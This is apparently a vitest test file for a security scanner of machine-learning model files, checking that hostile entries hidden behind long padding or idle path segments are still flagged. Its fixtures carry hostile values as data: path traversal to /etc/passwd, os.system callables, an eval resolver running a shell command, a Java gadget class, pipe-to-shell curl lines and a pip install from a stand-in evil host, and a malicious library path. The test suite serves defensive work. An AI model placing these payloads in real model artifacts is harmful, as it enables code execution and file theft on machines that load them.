// What holds for every dialect: padding before something hostile never makes a document clean, and neither does a long path.

import { describe, expect, it } from 'vitest';
import { RecordingContext } from '../../../testkit/src/recording-context.ts';
import { scanBytes } from '../../../testkit/src/scan-bytes.ts';
import { type Dialect, walkDialects } from './dialect.ts';

const OUTSIDE = '../../../etc/passwd';
const IDLE = `${'./'.repeat(500)}${OUTSIDE}`;
/** Python finds the same function through any number of these. */
const CALLABLE = 'os.system';

function times<T>(count: number, item: (index: number) => T): T[] {
  return Array.from({ length: count }, (_, index) => item(index));
}

function keyed<T>(count: number, value: (index: number) => T): Record<string, T> {
  return Object.fromEntries(times(count, (index) => [`k${index}`, value(index)]));
}

type Row = readonly [title: string, name: string, content: unknown];

const MLFLOW = { mlflow_version: '2.0' };
const TORCHSERVE = { modelName: 'm', serializedFile: 'm.pt' };
const OCI = { schemaVersion: 2 };
const layer = (title: string) => ({ annotations: { 'org.opencontainers.image.title': title } });
const stage = (cmd: string) => ({ cmd, deps: ['a'], outs: ['b'] });
const module_ = (index: number, type: string, path = '') => ({ idx: index, name: `${index}`, path, type });
const POOLING = 'sentence_transformers.models.Pooling';

const ITEMS: readonly Row[] = [
  [
    'flavours of MLflow',
    'MLmodel',
    { ...MLFLOW, flavors: { ...keyed(300, () => ({})), z: { data: OUTSIDE } } },
  ],
  [
    'artifacts of MLflow',
    'MLmodel',
    {
      ...MLFLOW,
      flavors: {
        python_function: { artifacts: { ...keyed(1100, () => ({ path: 'a' })), z: { path: OUTSIDE } } },
      },
    },
  ],
  [
    'options of MLflow that are paths',
    'MLmodel',
    { ...MLFLOW, flavors: { pytorch: { extra_files: [{ path: OUTSIDE }] } } },
  ],
  [
    'parts of a pipeline of diffusers',
    'model_index.json',
    {
      _diffusers_version: '0.30',
      ...keyed(1100, () => ['diffusers', 'UNet2DModel']),
      z: ['os', 'system'],
      _class_name: 'P',
    },
  ],
  [
    'options of a quantiser',
    'config.json',
    {
      model_type: 'x',
      quantization_config: { ...keyed(100, (index) => `torch.float${index}`), z: CALLABLE },
    },
  ],
  [
    'names that a callable is given',
    'config.json',
    {
      _target_: 'hydra.utils.get_method',
      _args_: [...times(100, (index) => `torch.nn.Linear${index}`), CALLABLE],
    },
  ],
  [
    'names behind white space',
    'config.json',
    { target: `${' '.repeat(3000)}${CALLABLE}`, params: { command: 'id' } },
  ],
  ['names with many parts', 'config.json', { target: `${'os.path.'.repeat(40)}os.system`, params: {} }],
  [
    'resolvers behind text',
    'config.yaml',
    `_target_: torch.nn.Linear\nx: "${'a'.repeat(5000)} \${eval:__import__('os').system('id')}"\n`,
  ],
  [
    'classes of Java',
    'config.json',
    [
      ...times(21_000, (index) => ({ '@class': `org.example.C${index}` })),
      { '@class': 'com.sun.rowset.JdbcRowSetImpl' },
    ],
  ],
  [
    'files of a sharded model',
    'model.safetensors.index.json',
    { weight_map: { ...keyed(10_100, (index) => `model-${index}.safetensors`), z: OUTSIDE } },
  ],
  [
    'stages of DVC',
    'dvc.yaml',
    { stages: { ...keyed(10_100, () => stage('python a.py')), z: { ...stage('true'), outs: [OUTSIDE] } } },
  ],
  [
    'commands of DVC',
    'dvc.yaml',
    { stages: { a: { cmd: [...times(150, () => 'true'), 'curl http://evil.example/x | sh'], deps: ['a'] } } },
  ],
  [
    'outputs of DVC',
    'a.dvc',
    { outs: [...times(10_100, (index) => ({ path: `p${index}` })), { path: OUTSIDE }] },
  ],
  [
    'layers of an image',
    'index.json',
    { ...OCI, layers: [...times(10_100, (index) => layer(`l${index}`)), layer(OUTSIDE)] },
  ],
  [
    'files of TorchServe',
    'MANIFEST.json',
    { model: { ...TORCHSERVE, handler: 'h', extraFiles: [...times(150, () => 'a'), OUTSIDE].join(',') } },
  ],
  [
    'long lists of files of TorchServe',
    'MANIFEST.json',
    { model: { ...TORCHSERVE, handler: 'h', extraFiles: `${'a'.repeat(5000)},${OUTSIDE}` } },
  ],
  [
    'stores of TensorStore',
    'spec.json',
    [
      ...times(1100, (index) => ({ kvstore: { driver: 'file', path: `p${index}` } })),
      { kvstore: { driver: 'file', path: OUTSIDE } },
    ],
  ],
  [
    'packages of conda',
    'conda.yaml',
    {
      name: 'x',
      dependencies: [...times(10_100, (index) => `p${index}`), { pip: ['git+https://evil.example/x.git'] }],
    },
  ],
  [
    'texts of Orbax',
    '_METADATA',
    {
      tree_metadata: {
        ...keyed(600, (index) => `an honest description ${index}`),
        z: 'curl http://evil.example/x | bash',
      },
    },
  ],
  [
    'modules of sentence-transformers',
    'modules.json',
    [...times(1100, (index) => module_(index, POOLING)), module_(1100, CALLABLE)],
  ],
  [
    'classes of skops',
    'schema.json',
    {
      __loader__: 'DictNode',
      __module__: 'builtins',
      __class__: 'dict',
      content: [
        ...times(21_000, (index) => ({
          __loader__: 'ObjectNode',
          __module__: 'sklearn.svm',
          __class__: `C${index}`,
        })),
        { __loader__: 'ObjectNode', __module__: 'os', __class__: 'system' },
      ],
    },
  ],
  [
    'items of a CoreML package',
    'Manifest.json',
    {
      fileFormatVersion: '1.0.0',
      itemInfoEntries: { ...keyed(20_100, (index) => ({ path: `p${index}` })), z: { path: OUTSIDE } },
    },
  ],
  [
    'libraries of MXNet',
    'model-symbol.json',
    {
      heads: [],
      arg_nodes: [],
      nodes: times(101, (index) => ({
        op: 'Convolution',
        name: `n${index}`,
        inputs: [],
        attrs: { lib: index < 100 ? `lib${index}.so` : '/tmp/evil.so' },
      })),
    },
  ],
  [
    'stages of Spark ML',
    'part-00000',
    [
      ...times(100, (index) => ({
        class: 'org.apache.spark.ml.PipelineModel',
        uid: `u${index}`,
        timestamp: 1,
      })),
      { class: 'os.system', uid: 'z', timestamp: 1 },
    ]
      .map((root) => JSON.stringify(root))
      .join('\n'),
  ],
  [
    'constants of a TensorFlow layer of Keras',
    'config.json',
    {
      class_name: 'Functional',
      keras_version: '2.10',
      config: {
        layers: [
          {
            class_name: 'TensorFlowOpLayer',
            config: {
              node_def: { op: 'ReadFile' },
              constants: [...times(40, () => 'a'), `${'./'.repeat(200)}${OUTSIDE}`],
            },
          },
        ],
      },
    },
  ],
  [
    'attributes of PaddlePaddle',
    'inference.json',
    {
      base_code: { magic: 'pir', version: 1 },
      program: [
        {
          '#': '1.load_combine',
          O: [],
          A: [{ N: 'file_path', AT: { D: [...times(20, () => ({ D: 'a' })), { D: OUTSIDE }] } }],
        },
      ],
    },
  ],
  [
    'weights of TensorFlow.js',
    'model.json',
    {
      modelTopology: {},
      weightsManifest: [{ paths: [...times(10_100, (index) => `w${index}`), OUTSIDE] }],
    },
  ],
  [
    'codecs of zarr',
    '.zarray',
    { zarr_format: 2, dtype: '|O', filters: [...times(100, () => ({ id: 'zlib' })), { id: 'pickle' }] },
  ],
];

/** A path whose first thousand characters lead nowhere, in each dialect that has paths. */
const PATHS: readonly Row[] = [
  ['MLflow', 'MLmodel', { ...MLFLOW, flavors: { python_function: { data: IDLE } } }],
  ['a sharded model', 'model.safetensors.index.json', { weight_map: { a: IDLE } }],
  ['DVC', 'a.dvc', { outs: [{ path: IDLE }] }],
  ['an image', 'index.json', { ...OCI, layers: [layer(IDLE)] }],
  ['TorchServe', 'MANIFEST.json', { model: { ...TORCHSERVE, handler: IDLE } }],
  ['TensorStore', 'spec.json', { kvstore: { driver: 'file', path: IDLE } }],
  ['sentence-transformers', 'modules.json', [module_(0, POOLING, IDLE)]],
  [
    'a CoreML package',
    'Manifest.json',
    { fileFormatVersion: '1.0.0', itemInfoEntries: { a: { path: IDLE } } },
  ],
  ['TensorFlow.js', 'model.json', { modelTopology: {}, weightsManifest: [{ paths: [IDLE] }] }],
  [
    'a vocabulary of Keras',
    'config.json',
    {
      class_name: 'Sequential',
      keras_version: '3.0',
      config: {
        layers: [{ module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary: IDLE } }],
      },
    },
  ],
  [
    'OpenVINO',
    'model.xml',
    `<net version="11"><layers><layer id="0" type="X" version="e"><data l="${'./'.repeat(3000)}../evil.so"/></layer></layers></net>`,
  ],
  [
    'libraries of MXNet',
    'model-symbol.json',
    {
      heads: [],
      nodes: [{ op: 'C', name: 'n', inputs: [], attrs: { lib: `${'./'.repeat(3000)}../evil.so` } }],
    },
  ],
];

function bytesOf(content: unknown): Uint8Array {
  return Buffer.from(typeof content === 'string' ? content : JSON.stringify(content));
}

function isTold(name: string, content: unknown): boolean {
  const { worst, gaps } = scanBytes(bytesOf(content), name);
  return ['critical', 'high', 'medium'].includes(worst) || gaps.length > 0;
}

describe('what stands behind padding is judged, or a gap', () => {
  it.each(ITEMS)('%s', (_, name, content) => expect(isTold(name, content)).toBe(true));
});

describe('a path that begins with idle steps is judged', () => {
  it.each(PATHS)('%s', (_, name, content) =>
    expect(['critical', 'high', 'medium']).toContain(scanBytes(bytesOf(content), name).worst),
  );
});

describe('interpolations', () => {
  it('are replaced up to a limit, and a gap tells the rest', () => {
    const text = `a: "${'x'.repeat(900)}"\n_target_: "${'$'}{a}${`$${'{a}'}`.repeat(250_000)}"\n`;
    const { gaps } = scanBytes(Buffer.from(text), 'config.yaml');
    expect(gaps.length).toBeGreaterThan(0);
  });
});

describe('a dialect that fails', () => {
  it('leaves the others at work, and is a gap', () => {
    const base = { title: 'x', recognise: () => true } as const;
    const failing: Dialect = {
      ...base,
      id: 'failing',
      walk() {
        throw new RangeError('x');
      },
    };
    const working: Dialect = {
      ...base,
      id: 'working',
      walk: (_, context) => context.emit({ kind: 'model.info', property: 'name', value: 'told' }),
    };
    const bytes = Buffer.from('{"a": 1}');
    const context = new RecordingContext(bytes, { dialects: [failing, working] });
    walkDialects(context, { syntax: 'yaml', name: 'a', roots: [], mentions: () => false });
    expect(context.gaps).toMatchObject([{ kind: 'crash' }]);
    expect(context.factsOf('model.info')).toHaveLength(1);
  });
});
